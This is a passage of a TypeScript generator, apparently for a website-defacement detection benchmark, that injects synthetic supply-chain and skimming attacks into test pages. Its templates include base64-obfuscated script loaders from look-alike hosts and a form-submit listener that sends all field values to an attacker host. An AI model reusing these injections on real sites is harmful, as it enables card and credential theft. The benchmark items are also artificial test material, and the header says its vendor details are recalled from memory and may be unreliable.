/**
 * Fresh28 defacement classes: written during round 22, by someone who does
 * not read the engines, from compromises that reach a site through its third
 * parties and its build, and from defacements done through a site builder,
 * as web-skimming and website-security researchers describe them (Sansec,
 * Sucuri and GoDaddy, Wordfence, Jscrambler, Malwarebytes, Unit 42, Netskope,
 * Proofpoint, Socket and Aikido on npm), as the vendors' own installation
 * guides show the honest snippets (jsDelivr, Vite, Astro, Qwik, Google tag,
 * Matomo, Plausible, Umami, Baidu Tongji, 51.la, CNZZ, Skimlinks, Auth0,
 * Okta, Azure AD B2C, Cognito, Elementor, WPBakery, Divi, Wix, Webflow,
 * Shopify, PayPal, Paddle, Lemon Squeezy, Gumroad, Smile.io, LoyaltyLion,
 * IndieAuth) and as the HTML5 Boilerplate's CDN fallback is written.
 * Library hosts and builds: a jsDelivr combine URL that slips a look-alike
 * package in beside a real library, the build's asset prefix moved to
 * another host, a module from a project on a static-hosting platform named
 * after the site, a CDN tag broken on purpose so that its "local" fallback
 * from another host runs, a legacy nomodule bundle that only old browsers
 * run, a script on a forgotten subdomain of the site, a module import from a
 * look-alike of a module CDN, a framework island or resumable container whose
 * module URLs are elsewhere, WordPress's emoji loader with another source,
 * a loader disguised as Google's consent-mode defaults, a script pinned on an
 * IPFS gateway, and a look-alike of a site builder's own asset CDN. Tags and
 * analytics: Google tag boilerplate from a look-alike "first-party" tagging
 * host, the counters and link-push scripts of a Chinese SEO kit, a
 * self-hosted analytics snippet on an unrelated host, a link-monetisation
 * script under an unknown publisher id, a storefront app's script tag from an
 * unknown app host. Sign-in, payment and support widgets: sign-in links and
 * widget on a look-alike tenant of a real identity provider, a look-alike
 * chat launcher whose pre-chat form asks for the password or the card, a
 * look-alike "accept cookies or subscribe" wall taking card details, PayPal
 * buttons from a look-alike of PayPal's SDK host, an overlay checkout from a
 * look-alike of a merchant-of-record's host, a look-alike loyalty launcher
 * asking to link a card, the site's social plugin turned to an impostor
 * page, IndieAuth and OpenID delegation moved to another host. Site
 * builders: an Elementor popup with a sign-in form or a document lure, an
 * Elementor HTML widget carrying a loader, spam links hidden on every device
 * by a builder's own visibility classes (Elementor, WPBakery, Divi), a Wix
 * HTML embed framing a client portal from Wix's user-content host, a Webflow
 * form posting to another host, and the site's own links sent to a copy of
 * it on a site-builder subdomain. Each differs from every class in
 * defacements.ts and fresh-defacements.ts through fresh26-defacements.ts (not
 * a re-wording of one) and varies its templates, languages, domains,
 * positions and sizes with the rng. Most do not announce themselves. The
 * writer had no internet access: every source below is recalled from memory,
 * with its outlet and an approximate date where known, and may be wrong in
 * detail, and the vendors' snippets, hosts and markup are recalled too and
 * may differ from the real ones. Scored in the `fresh28` group, never tuned
 * on.
 */
import { Buffer } from "node:buffer"
import { type ChangeClass, brandName, elAt, head, resolve, shown, siteOr, top, bottom } from "./classes.js"
import { type Page, priceRe, registrable } from "./corpus.js"
import { type Change, type Splice, anySlot, esc, insert, replace, slotAt, splices } from "./edit.js"
import type { Lang } from "./locales.js"
import { type El, type Range, attrInsertAt, attrValue, rels } from "./locate.js"
import { type Rng, alnum, base58, between, chance, digits, hex, pick, sample, upper } from "./rng.js"
import { brandLookalike, libLookalike, randomDomain, slug } from "./words.js"

const fresh28 = (name: string, make: (page: Page, rng: Rng) => Change): ChangeClass => ({ name, kind: "defacement", group: "fresh28", make })

type T<A> = Record<Lang, A>

/** A JavaScript string literal that cannot close the script element it sits in. */
const js = (s: string) => JSON.stringify(s).replace(/</g, "\\u003c")
const b64 = (s: string) => Buffer.from(s, "utf8").toString("base64")
const tld = (rng: Rng) => pick(rng, ["com", "net", "top", "xyz", "site", "online", "shop", "info", "click", "icu", "live", "pro", "org", "cc", "store", "io", "biz", "link", "cfd", "sbs", "buzz", "fun", "app", "dev"])
const bare = (page: Page) => page.site.brand.replace(/[^a-z0-9]/gi, "").toLowerCase() || "site"
const headStart = (page: Page) => page.spots.elements.find((e) => e.name === "head" && !e.inBody)?.openEnd ?? head(page)
const scriptSpot = (rng: Rng, page: Page) => pick(rng, [head(page), head(page), headStart(page), bottom(page), slotAt(page.spots, "bottom")])
const blockSpot = (rng: Rng, page: Page) => pick(rng, [slotAt(page.spots, "top"), slotAt(page.spots, "middle"), anySlot(rng, page.spots), slotAt(page.spots, "bottom")])
const overlaySpot = (rng: Rng, page: Page) => pick(rng, [top(page), bottom(page), slotAt(page.spots, "top")])
const font = (rng: Rng) => pick(rng, ["Arial,sans-serif", "system-ui,-apple-system,'Segoe UI',Roboto,sans-serif", "Helvetica,Arial,sans-serif", "'Segoe UI',Tahoma,sans-serif", "Inter,Roboto,sans-serif"])
const zTop = (rng: Rng) => pick(rng, ["2147483647", "2147483000", "999999", "100000"])
const uuid = (rng: Rng) => `${hex(rng, 8)}-${hex(rng, 4)}-4${hex(rng, 3)}-${pick(rng, ["8", "9", "a", "b"])}${hex(rng, 3)}-${hex(rng, 12)}`
/** Mixed-case letters and digits, as bundlers write content hashes (`index-BfE3k2aQ.js`). */
const mixed = (rng: Rng, n: number) => Array.from({ length: n }, () => pick(rng, [..."abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"])).join("")
const ver = (rng: Rng) => `${between(rng, 1, 5)}.${between(rng, 0, 14)}.${between(rng, 0, 9)}`
/** A host the intruder runs: random, a look-alike of the site, or of a library host. */
const evilHost = (rng: Rng, page: Page) => pick(rng, [() => randomDomain(rng), () => brandLookalike(rng, page.site.brand), () => libLookalike(rng)])()
const isOwn = (page: Page, href: string): boolean => {
  const u = resolve(page, href)
  return u !== null && registrable(u.hostname.toLowerCase()) === page.site.domain
}
/** Scripts with an address, outside inert markup. */
const srcScripts = (page: Page): Array<El> => page.spots.elements.filter((e) => e.name === "script" && !e.inert && (e.attribs.src ?? "").trim() !== "")
const cdnRe = /(ajax\.googleapis\.com|code\.jquery\.com|ajax\.aspnetcdn\.com|cdnjs\.cloudflare\.com|cdn\.jsdelivr\.net|unpkg\.com|bootstrapcdn\.com)/i
/** The page's jQuery and jQuery UI tags on public CDNs, with the version they name. */
const cdnJquery = (page: Page): Array<{ readonly el: El; readonly value: Range; readonly ui: boolean; readonly v: string; readonly raw: string | null }> =>
  srcScripts(page).flatMap((el) => {
    const src = el.attribs.src ?? ""
    const value = attrValue(page.html, el, "src")
    if (!cdnRe.test(src) || !/jquery/i.test(src) || value === null) return []
    const ui = /jquery[-.]?ui/i.test(src)
    const m = /(\d+(?:\.\d+){0,2})/.exec(src.replace(/^.*?(jquery[^/]*\/|jquery-(?:ui-)?)/i, ""))
    const raw = m?.[1] ?? (ui ? "1.12.1" : "1.12.4")
    const v = raw === "1" ? "1.12.4" : /^\d+\.\d+$/.test(raw) ? `${raw}.${ui ? "1" : "3"}` : raw
    return [{ el, value, ui, v, raw: m?.[1] ?? null }]
  })
/** A shown link whose address is set, outside inert markup. */
const links = (page: Page): Array<El> => shown(page, "a", (e) => !e.inert && (e.attribs.href ?? "").trim() !== "" && !/^\s*(#|javascript:|mailto:|tel:)/i.test(e.attribs.href ?? ""))
const textOf = (page: Page, el: El): string =>
  el.closeTag === null ? "" : page.spots.texts.filter((t) => t.start >= el.openEnd && t.end <= el.closeTag!.start).map((t) => t.text).join(" ").replace(/\s+/g, " ").trim()
/** Where a block can follow the block that holds `el` (the nearest enclosing element that ends on a slot). */
const afterBlockOf = (page: Page, el: El | undefined): number | null => {
  for (let e = el; e !== undefined; e = elAt(page, e.parent)) {
    if (e.closeTag !== null && page.spots.slots.includes(e.closeTag.end)) return e.closeTag.end
  }
  return null
}
/** A block position just after one of the page's prices (every published page shows one). */
const nearPrice = (rng: Rng, page: Page): number => {
  const runs = page.spots.texts.filter((t) => priceRe.test(t.text))
  if (runs.length === 0) return slotAt(page.spots, "middle")
  return afterBlockOf(page, elAt(page, pick(rng, runs).parent)) ?? slotAt(page.spots, "middle")
}
const currency = (page: Page) => ({ us: "USD", uk: "GBP", au: "AUD", in: "INR", br: "BRL" } as Record<string, string>)[page.site.locale.country] ?? "EUR"

// ———————————————————————————— library hosts and builds ————————————————————————————

const lookalikePackages = (rng: Rng, page: Page) =>
  pick(rng, [
    "jquery-migrate-js", "jqeury", "jquery.min-js", "jquery-cookie-js", "jquery-ui-touch-fix", "bootstrap-utils-js", "popperjs-core",
    "lodash-es5", "swiper-bundle-js", "slick-carousel-min", "aos-animate", "lazysizes-core", "webfontloader-js", "modernizr-custom-build",
    `${bare(page)}-web-utils`, `${bare(page)}-ui`, "js-cookie-es", "axios-http-client", "polyfill-service-js", "core-js-bundle-min"
  ])
const npmFile = (rng: Rng) => pick(rng, ["", "/dist/index.min.js", "/index.js", "/dist/bundle.min.js", "/lib/index.umd.js", "/min.js"])

// jsDelivr's combine endpoint, recalled from memory of jsDelivr's documentation (cdn.jsdelivr.net/combine/ joins several npm or GitHub files into one response, about 2017 onwards) and of Socket's, Phylum's and Checkmarx's reports on typosquatted npm packages written for browsers and served through public CDNs (about 2022–2025): the site's own jQuery tag (or a new one) turned into a combine URL that still serves the real library, plus one look-alike package after it (or before it) in the same request.
const combineSlip = fresh28("library tag turned into a jsDelivr combine URL that serves the real library plus a look-alike npm package in the same request", (page, rng) => {
  const extra = `npm/${lookalikePackages(rng, page)}@${ver(rng)}${npmFile(rng)}`
  const libs = cdnJquery(page)
  const part = (ui: boolean, v: string) => ui ? `npm/jquery-ui-dist@${v}/jquery-ui.min.js` : `npm/jquery@${v}/dist/jquery.min.js`
  const url = (real: string) => `https://cdn.jsdelivr.net/combine/${chance(rng, 0.75) ? `${real},${extra}` : `${extra},${real}`}`
  if (libs.length > 0 && chance(rng, 0.85)) {
    const lib = pick(rng, libs)
    return splices(replace(lib.value, esc(url(part(lib.ui, lib.v)))))
  }
  const real = part(false, pick(rng, ["3.7.1", "3.6.4", "3.6.0", "3.5.1", "1.12.4"]))
  return splices(insert(scriptSpot(rng, page), `<script src="${esc(url(real))}"${chance(rng, 0.4) ? ` crossorigin="anonymous"` : ""}${chance(rng, 0.3) ? " defer" : ""}></script>`))
})

/** The site's own scripts, stylesheets, preloads and icons, with the address each names. */
const ownAssets = (page: Page): Array<{ readonly value: Range; readonly url: URL; readonly script: boolean }> =>
  page.spots.elements.flatMap((el) => {
    if (el.inert) return []
    const attr = el.name === "script" ? "src" : el.name === "link" && rels(el).some((r) => ["stylesheet", "preload", "modulepreload", "prefetch", "icon", "apple-touch-icon", "manifest"].includes(r)) ? "href" : null
    if (attr === null) return []
    const raw = el.attribs[attr] ?? ""
    const value = attrValue(page.html, el, attr)
    const url = raw.trim() === "" ? null : resolve(page, raw)
    if (value === null || url === null || !isOwn(page, raw)) return []
    return [{ value, url, script: el.name === "script" }]
  })

// Build-pipeline compromises, recalled from memory of write-ups on CI and deployment-key thefts (the Codecov bash uploader, April 2021; the tj-actions/changed-files action, March 2025), of Next.js's assetPrefix and Vite's base options (every generated script, style and preload URL takes the prefix) and of Sansec notes on skimmers served by swapping a shop's static-asset host: the build's asset prefix now names another host, so every same-site script, stylesheet, preload and icon comes from there with the same paths.
const assetPrefix = fresh28("build's asset prefix changed: the site's own scripts, stylesheets, preloads and icons all load from another host with the same paths", (page, rng) => {
  const host = pick(rng, [
    () => `${pick(rng, ["static", "assets", "cdn", "s", "media", "files", "build"])}.${brandLookalike(rng, page.site.brand)}`,
    () => `${bare(page)}-${pick(rng, ["assets", "static", "cdn", "build", "edge"])}.${tld(rng)}`,
    () => `${pick(rng, ["static", "assets", "cdn"])}.${randomDomain(rng)}`
  ])()
  const assets = ownAssets(page)
  const scripts = assets.filter((a) => a.script)
  if (assets.length > 0) {
    const chosen = assets.filter((a) => a.script || chance(rng, 0.85))
    const moved = chosen.length > 0 ? chosen : [pick(rng, scripts.length > 0 ? scripts : assets)]
    return { splices: moved.map((a) => replace(a.value, esc(`https://${host}${a.url.pathname}${a.url.search}`))) }
  }
  const name = pick(rng, [`/_next/static/chunks/main-${hex(rng, 16)}.js`, `/assets/index-${mixed(rng, 8)}.js`, `/static/js/main.${hex(rng, 8)}.js`, `/_nuxt/entry.${mixed(rng, 8)}.js`])
  return splices(insert(head(page), `<link rel="preload" as="script" href="https://${host}${name}"><script src="https://${host}${name}" defer></script>`))
})

const platformHost = (rng: Rng, page: Page) => {
  const b = bare(page)
  const proj = `${b}${pick(rng, ["", "-web", "-prod", "-site", "-app", "-static", "-www", "-frontend"])}${pick(rng, ["", `-${alnum(rng, 4)}`, `-git-main-${alnum(rng, 6)}`])}`
  return pick(rng, [
    `${proj}.vercel.app`, `${pick(rng, ["", `${hex(rng, 8)}.`])}${proj}.pages.dev`, `${pick(rng, ["", `deploy-preview-${between(rng, 2, 300)}--`])}${proj}.netlify.app`,
    `${proj}.web.app`, `${proj}.firebaseapp.com`, `${proj}.onrender.com`, `${proj}.${alnum(rng, 6)}.workers.dev`, `${proj}.fly.dev`, `${proj}.deno.dev`, `${proj}.surge.sh`
  ])
}

// Free hosting platforms as code hosts, recalled from memory of Netcraft's and Fortra's notes on phishing and malware on pages.dev, workers.dev, vercel.app, netlify.app and web.app (about 2023–2024) and of Sansec's on skimmers served from deployment previews: a script from a project on a static-hosting platform whose name imitates the site's own deployment, added beside the site's scripts or put in place of one of them (same path).
const platformProject = fresh28("module or script from a static-hosting project named after the site (vercel.app, pages.dev, netlify.app, web.app, workers.dev) added beside, or in place of, one of its own scripts", (page, rng) => {
  const host = platformHost(rng, page)
  const own = ownAssets(page).filter((a) => a.script)
  if (own.length > 0 && chance(rng, 0.55)) {
    const a = pick(rng, own)
    return splices(replace(a.value, esc(`https://${host}${a.url.pathname}${a.url.search}`)))
  }
  const path = pick(rng, [`/assets/index-${mixed(rng, 8)}.js`, `/_next/static/chunks/${pick(rng, ["main", "webpack", "framework", "pages/_app"])}-${hex(rng, 16)}.js`, `/js/app.${hex(rng, 8)}.js`, `/widget.js`, `/embed.js`, `/build/bundle.js`])
  const tag = chance(rng, 0.5)
    ? `${chance(rng, 0.5) ? `<link rel="modulepreload" crossorigin href="https://${host}${path}">` : ""}<script type="module" crossorigin src="https://${host}${path}"></script>`
    : `${chance(rng, 0.4) ? `<link rel="preconnect" href="https://${host}">` : ""}<script src="https://${host}${path}" ${pick(rng, ["defer", "async", "defer"])}></script>`
  return splices(insert(scriptSpot(rng, page), tag))
})

// The HTML5 Boilerplate's CDN fallback (window.jQuery || document.write of a local copy, about 2010 onwards) turned around, recalled from memory of clean-up notes on hacked themes whose "local fallback" pointed elsewhere: the CDN tag's version is changed to one that does not exist (or its file name misspelt), so it always fails, and the fallback (written after it, or as its onerror) loads the "local copy" from another host.
const fallbackHijack = fresh28("CDN library tag made to fail (a version or file that does not exist) so that its 'local copy' fallback, from another host, always runs", (page, rng) => {
  const host = evilHost(rng, page)
  const local = pick(rng, ["/js/vendor/jquery.min.js", "/wp-includes/js/jquery/jquery.min.js", "/assets/js/jquery-3.6.0.min.js", "/js/jquery.js", "/static/lib/jquery.min.js"])
  const fb = `${pick(rng, ["https:", ""])}//${host}${local}`
  const write = `<script>window.jQuery||document.write('<script src="${fb}"><\\/script>')</script>`
  const libs = cdnJquery(page).filter((l) => !l.ui && l.el.closeTag !== null)
  if (libs.length > 0) {
    const lib = pick(rng, libs)
    const src = page.html.slice(lib.value.start, lib.value.end)
    const bump = lib.raw === null ? src : src.replace(lib.raw, pick(rng, ["1.12.7", "3.7.9", "1.8.5", "2.2.8", "3.8.2"]))
    const misspelt = src.replace(/jquery(\.min)?\.js/i, pick(rng, ["jquery.mn.js", "jqurey.min.js", "jquery.min.jss"]))
    const broken = [chance(rng, 0.5) ? bump : misspelt, bump, misspelt, src.replace(/\.js(\?|$)/i, ".min.min.js$1")].find((x) => x !== src) ?? `${src}?v=${alnum(rng, 4)}`
    const out: Array<Splice> = []
    out.push(replace(lib.value, broken))
    if (chance(rng, 0.35)) out.push(insert(attrInsertAt(lib.el), ` onerror="var s=document.createElement('script');s.src='${fb}';document.head.appendChild(s)"`))
    else out.push(insert(lib.el.closeTag!.end, write))
    return { splices: out }
  }
  const cdn = pick(rng, ["https://code.jquery.com/jquery-3.7.9.min.js", "https://ajax.googleapis.com/ajax/libs/jquery/3.8.2/jquery.min.js", "https://cdnjs.cloudflare.com/ajax/libs/jquery/3.7.9/jquery.min.js", "https://code.jquery.com/jquery-1.12.7.min.js"])
  return splices(insert(scriptSpot(rng, page), `<script src="${cdn}"></script>${write}`))
})

// Legacy-browser targeting, recalled from memory of Vite's @vitejs/plugin-legacy and Angular's differential loading (nomodule bundles that only browsers without ES modules run) and of malvertising and exploit-kit reports aimed at Internet Explorer and old Safari (Magnitude and Purple Fox, about 2019–2021): a nomodule script from another host, named like a legacy polyfill or entry chunk, so that modern browsers (and scanners driving them) never run it.
const legacyNomodule = fresh28("nomodule 'legacy bundle' from another host that only old browsers run (named like a Vite, Angular or Next.js legacy chunk)", (page, rng) => {
  const host = evilHost(rng, page)
  const tag = pick(rng, [
    () => `<script nomodule crossorigin id="vite-legacy-polyfill" src="https://${host}/assets/polyfills-legacy-${mixed(rng, 8)}.js"></script><script nomodule crossorigin id="vite-legacy-entry" data-src="https://${host}/assets/index-legacy-${mixed(rng, 8)}.js">System.import(document.getElementById('vite-legacy-entry').getAttribute('data-src'))</script>`,
    () => `<script src="https://${host}/polyfills-es5.${hex(rng, 20)}.js" nomodule defer></script>`,
    () => `<script src="https://${host}/_next/static/chunks/polyfills-${hex(rng, 16)}.js" nomodule=""></script>`,
    () => `<script nomodule src="https://${host}/js/${pick(rng, ["legacy", "es5", "ie11", "compat"])}.${pick(rng, ["bundle", "min", "chunk"])}.js"></script>`
  ])()
  return splices(insert(scriptSpot(rng, page), tag))
})

// Subdomain takeovers used as script hosts, recalled from memory of Guardio Labs' "SubdoMailing" report (February 2024), of Detectify's and HackerOne write-ups on dangling CNAMEs to deleted cloud buckets, apps and CDN endpoints, and of Sansec's notes on skimmers hosted on hijacked subdomains of their victims: a script (or stylesheet) from an old campaign, staging or CDN subdomain of the site's own domain, added beside its scripts.
const forgottenSubdomain = fresh28("script from a forgotten subdomain of the site's own domain (an old campaign, staging or CDN name left pointing at a cloud service)", (page, rng) => {
  const sub = pick(rng, ["promo2019", "campaign", "old", "legacy", "staging2", "beta", "shop-old", "events2018", "static-old", "cdn2", "survey", "microsite", "lp", "summer2020", "xmas2021", "dev-assets", "img-old", "competition"])
  const host = `${sub}.${page.site.domain}`
  const path = pick(rng, ["/js/main.js", "/assets/app.js", "/tracking.js", "/js/jquery.min.js", `/static/${alnum(rng, 6)}.js`, "/widget/loader.js", `/${pick(rng, ["s", "t", "c"])}.js`])
  const tag = pick(rng, [
    `<script src="https://${host}${path}"${pick(rng, ["", " async", " defer"])}></script>`,
    `<script src="//${host}${path}"></script>`,
    `<script>(function(){var s=document.createElement("script");s.src="https://${host}${path}?"+Date.now();s.async=true;document.getElementsByTagName("head")[0].appendChild(s)})();</script>`
  ])
  const css = chance(rng, 0.2) ? `<link rel="stylesheet" href="https://${host}/css/${pick(rng, ["style", "main", "custom"])}.css">` : ""
  return splices(insert(scriptSpot(rng, page), css + tag))
})

// Module-CDN look-alikes, recalled from memory of esm.sh's, JSPM's (ga.jspm.io), Skypack's and esm.run's URL schemes (package@version paths, about 2020 onwards) and of typosquatted CDN host names in Sansec and Jscrambler reports: an inline module importing a real package path from a look-alike of a module CDN, sometimes with a modulepreload hint.
const moduleCdnLookalike = fresh28("inline module importing a real package path from a look-alike of a module CDN (esm.sh, ga.jspm.io, Skypack, esm.run)", (page, rng) => {
  const host = pick(rng, [
    () => `${pick(rng, ["esm-sh", "esmsh", "esm-cdn", "esm.sh-cdn"])}.${tld(rng)}`,
    () => `ga.${pick(rng, ["jspm-io", "jspm-cdn", "jsprn"])}.${pick(rng, ["com", "io", "net", "org"])}`,
    () => `cdn.${pick(rng, ["skypack-dev", "skypak", "sky-pack"])}.${pick(rng, ["com", "dev", "net", "io"])}`,
    () => `${pick(rng, ["esm-run", "esmrun", "esm.run-cdn"])}.${tld(rng)}`
  ])()
  const [pkg, spec, use] = pick(rng, [
    ["canvas-confetti", "confetti", ""],
    ["dayjs", "dayjs", `document.querySelectorAll("time").forEach(function(t){t.title=dayjs(t.dateTime).format("LL")});`],
    ["lit", "{ html, render }", ""],
    ["@github/relative-time-element", "\"x\"", ""],
    ["js-cookie", "Cookies", `Cookies.set("_v",Date.now());`],
    ["swiper", "Swiper", ""],
    ["preact", "{ h, render }", ""]
  ] as const)
  const url = `https://${host}/${pkg}@${ver(rng)}${pick(rng, ["", "?bundle", "/+esm", "?target=es2022"])}`
  const imp = spec === "\"x\"" ? `import ${js(url)};` : `import ${spec} from ${js(url)};`
  const code = chance(rng, 0.3) ? `import(${js(url)}).then(function(m){window.__m=m}).catch(function(){});` : `${imp}${use}`
  const pre = chance(rng, 0.45) ? `<link rel="modulepreload" href="${esc(url)}">` : ""
  return splices(insert(scriptSpot(rng, page), `${pre}<script type="module">${code}</script>`))
})

const islandLabels: T<ReadonlyArray<string>> = {
  en: ["Cart (0)", "Search", "Cookie settings", "Sign up for updates", "Dark mode", "Share"],
  fr: ["Panier (0)", "Rechercher", "Paramètres des cookies", "Recevoir nos actualités", "Mode sombre", "Partager"],
  de: ["Warenkorb (0)", "Suchen", "Cookie-Einstellungen", "Neuigkeiten abonnieren", "Dunkelmodus", "Teilen"],
  es: ["Carrito (0)", "Buscar", "Configuración de cookies", "Recibe novedades", "Modo oscuro", "Compartir"],
  nl: ["Winkelwagen (0)", "Zoeken", "Cookie-instellingen", "Ontvang updates", "Donkere modus", "Delen"],
  pt: ["Carrinho (0)", "Pesquisar", "Configurações de cookies", "Receba novidades", "Modo escuro", "Compartilhar"],
  it: ["Carrello (0)", "Cerca", "Impostazioni cookie", "Ricevi aggiornamenti", "Modalità scura", "Condividi"]
}

// Framework attributes that name code, recalled from memory of Astro's documentation (astro-island elements whose component-url and renderer-url attributes the island script imports, about 2022 onwards) and Qwik's (q:base on the container and on:click="chunk.js#symbol" attributes the qwikloader resolves and imports): an island or resumable container added around a small widget, its module URLs on another host, with the loader stub that imports them.
const frameworkIsland = fresh28("framework island or resumable container (Astro astro-island, Qwik q:container) whose component, renderer or base URL points at another host", (page, rng) => {
  const host = evilHost(rng, page)
  const label = pick(rng, siteOr(rng, page, islandLabels))
  const comp = pick(rng, ["CartButton", "SearchBox", "CookieSettings", "Newsletter", "ThemeToggle", "ShareBar"])
  const html = pick(rng, [
    () => {
      const client = pick(rng, ["load", "idle", "visible"])
      const boot = `<script>(()=>{var a=async(e)=>{const c=await import(e.getAttribute("component-url")),r=await import(e.getAttribute("renderer-url"));r.default(e)(c[e.getAttribute("component-export")||"default"],JSON.parse(e.getAttribute("props")||"{}"),{})};customElements.get("astro-island")||customElements.define("astro-island",class extends HTMLElement{connectedCallback(){${client === "idle" ? `("requestIdleCallback" in window?requestIdleCallback:setTimeout)(()=>a(this))` : "a(this)"}}})})();</script>`
      return `${boot}<astro-island uid="${alnum(rng, 6)}" prefix="r${between(rng, 1, 20)}" component-url="https://${host}/_astro/${comp}.${mixed(rng, 8)}.js" component-export="default" renderer-url="https://${host}/_astro/client.${mixed(rng, 8)}.js" props="{}" ssr="" client="${client}" opts="{&quot;name&quot;:&quot;${comp}&quot;,&quot;value&quot;:true}" await-children=""><button type="button" class="${slug(comp)}">${esc(label)}</button></astro-island>`
    },
    () => {
      const loader = `<script id="qwikloader">(()=>{const d=document;d.addEventListener("click",async e=>{for(let t=e.target;t&&t.getAttribute;t=t.parentElement){const a=t.getAttribute("on:click");if(a){const c=t.closest("[q\\\\:container]"),u=new URL(a,new URL(c.getAttribute("q:base"),d.baseURI)).href.split("#");(await import(u[0]))[u[1].split("[")[0]](e,t)}}})})();</script>`
      return `<div q:container="paused" q:version="1.${between(rng, 1, 9)}.${between(rng, 0, 9)}" q:render="ssr" q:base="https://${host}/build/" q:manifest-hash="${alnum(rng, 6)}"><button type="button" on:click="q-${mixed(rng, 8)}.js#s_${mixed(rng, 11)}[0]" q:key="${alnum(rng, 2)}">${esc(label)}</button></div>${loader}`
    }
  ])()
  return splices(insert(blockSpot(rng, page), `<div class="${pick(rng, ["island", "widget", "header-actions", "toolbar"])}">${html}</div>`))
})

// WordPress's emoji loader as a disguise, recalled from memory of WordPress core's inline emoji settings (window._wpemojiSettings with source.concatemoji, about 2015 onwards) and of Sucuri's and Wordfence's notes on malware dressed as WordPress core files and settings (fake wp-emoji-release and wp-includes paths, about 2018–2024): the emoji settings block and its loader, but the concatemoji script comes from another host and the loader always fetches it.
const wpEmojiLoader = fresh28("WordPress emoji settings and loader whose concatemoji source is on another host, fetched on every page view", (page, rng) => {
  const host = evilHost(rng, page)
  const v = pick(rng, ["15.0.3", "14.0.0", "15.1.0"])
  const wp = pick(rng, ["6.5.5", "6.4.3", "6.6.2", "6.7.1", "6.3.2"])
  const src = `https:\\/\\/${host}\\/wp-includes\\/js\\/wp-emoji-release.min.js?ver=${wp}`
  const settings = `window._wpemojiSettings = {"baseUrl":"https:\\/\\/s.w.org\\/images\\/core\\/emoji\\/${v}\\/72x72\\/","ext":".png","svgUrl":"https:\\/\\/s.w.org\\/images\\/core\\/emoji\\/${v}\\/svg\\/","svgExt":".svg","source":{"concatemoji":"${src}"}};`
  const loader = `/*! This file is auto-generated */\n!function(n,e){var s=e.createElement("script");s.src=n._wpemojiSettings.source.concatemoji;s.defer=!0;(e.head||e.documentElement).appendChild(s)}(window,document);`
  const style = chance(rng, 0.6) ? `<style id="wp-emoji-styles-inline-css">img.wp-smiley,img.emoji{display:inline!important;border:none!important;box-shadow:none!important;height:1em!important;width:1em!important;margin:0 .07em!important;vertical-align:-.1em!important;background:none!important;padding:0!important}</style>` : ""
  return splices(insert(pick(rng, [headStart(page), head(page)]), `<script${chance(rng, 0.5) ? ` type="text/javascript"` : ""}>${settings}\n${loader}</script>${style}`))
})

// Google's consent-mode defaults as a disguise, recalled from memory of Google's Consent Mode v2 documentation (gtag('consent','default',...) at the top of the head, required in the EEA from March 2024) and of skimmer reports that hide loaders inside copies of well-known tag snippets (Sansec and Malwarebytes on fake Google Analytics and Tag Manager code, about 2020–2024): a consent-defaults block at the top of the head, with one more statement that loads a script from another host, sends what visitors submit, or redirects first-time visitors.
const consentModeLoader = fresh28("loader hidden in a copy of Google's consent-mode defaults block at the top of the head (gtag consent default, then code from another host)", (page, rng) => {
  const host = evilHost(rng, page)
  const defaults = `window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments);}gtag('consent','default',{ad_storage:'denied',ad_user_data:'denied',ad_personalization:'denied',analytics_storage:'denied',${chance(rng, 0.5) ? "functionality_storage:'granted',security_storage:'granted'," : ""}wait_for_update:${pick(rng, ["500", "1000", "2000"])}});gtag('set','ads_data_redaction',true);${chance(rng, 0.5) ? "gtag('set','url_passthrough',true);" : ""}`
  const url = `https://${host}/${pick(rng, ["gtag/consent.js", "cm/v2/init.js", "consent-mode.js", `gtm/${alnum(rng, 6)}.js`])}`
  const extra = pick(rng, [
    () => `(function(w,d){var c=d.createElement('script');c.async=1;c.src=atob('${b64(url)}');d.head.appendChild(c)})(window,document);`,
    () => `document.addEventListener('submit',function(e){try{var f=e.target,o={};for(var i=0;i<f.elements.length;i++){var x=f.elements[i];if(x.name&&x.value)o[x.name]=x.value}navigator.sendBeacon(atob('${b64(`https://${host}/g/collect?tid=G-${upper(rng, 4)}${digits(rng, 6)}`)}'),JSON.stringify(o))}catch(_){}},true);`,
    () => `if(!localStorage.getItem('_gcl_cm')&&/android|iphone|mobile/i.test(navigator.userAgent)){localStorage.setItem('_gcl_cm',1);setTimeout(function(){location.href=atob('${b64(`https://${randomDomain(rng)}/?${pick(rng, ["c", "s", "z"])}=${alnum(rng, 6)}`)}')},${between(rng, 800, 4000)})}`
  ])()
  return splices(insert(headStart(page), `<script${chance(rng, 0.3) ? ` data-cfasync="false"` : ""}>${defaults}${extra}</script>`))
})

// IPFS gateways as script hosts, recalled from memory of Trustwave's, Cisco Talos' and Palo Alto Networks' reports on phishing and malware hosted on IPFS and reached through public gateways (ipfs.io, dweb.link, w3s.link, Cloudflare's gateway, Pinata, about 2022–2023): a script or stylesheet from a content address on a public IPFS gateway, whose content cannot be taken down at one host.
const ipfsScript = fresh28("script (or stylesheet) pinned on IPFS and loaded through a public gateway (ipfs.io, dweb.link, w3s.link, Pinata, Cloudflare)", (page, rng) => {
  const v1 = () => `bafybei${Array.from({ length: 52 }, () => pick(rng, [..."abcdefghijklmnopqrstuvwxyz234567"])).join("")}`
  const cid = chance(rng, 0.6) ? v1() : `Qm${base58(rng, 44)}`
  const file = pick(rng, ["jquery.min.js", "app.js", "loader.js", "index.js", "main.min.js", "analytics.js"])
  const url = pick(rng, [
    () => `https://${cid.startsWith("baf") ? cid : v1()}.ipfs.${pick(rng, ["dweb.link", "w3s.link", "nftstorage.link", "cf-ipfs.com", "4everland.io"])}/${file}`,
    () => `https://${pick(rng, ["ipfs.io", "cloudflare-ipfs.com", "gateway.pinata.cloud", "ipfs.filebase.io", "gateway.ipfs.io"])}/ipfs/${cid}/${file}`
  ])()
  const tag = chance(rng, 0.15) ? `<link rel="stylesheet" href="${url.replace(/\.js$/, ".css")}">` : `<script src="${url}"${pick(rng, ["", " async", " defer"])}></script>`
  return splices(insert(scriptSpot(rng, page), tag))
})

// Site-builder CDN look-alikes, recalled from memory of the asset hosts of Wix (static.parastorage.com, static.wixstatic.com), Webflow (assets-global.website-files.com, cdn.prod.website-files.com), Squarespace (static1.squarespace.com, assets.squarespace.com), Shopify (cdn.shopify.com) and Framer (framerusercontent.com), and of Sansec notes on skimmers on look-alike platform hosts: a script or stylesheet named like the builder's own bundle, from a look-alike of its asset host.
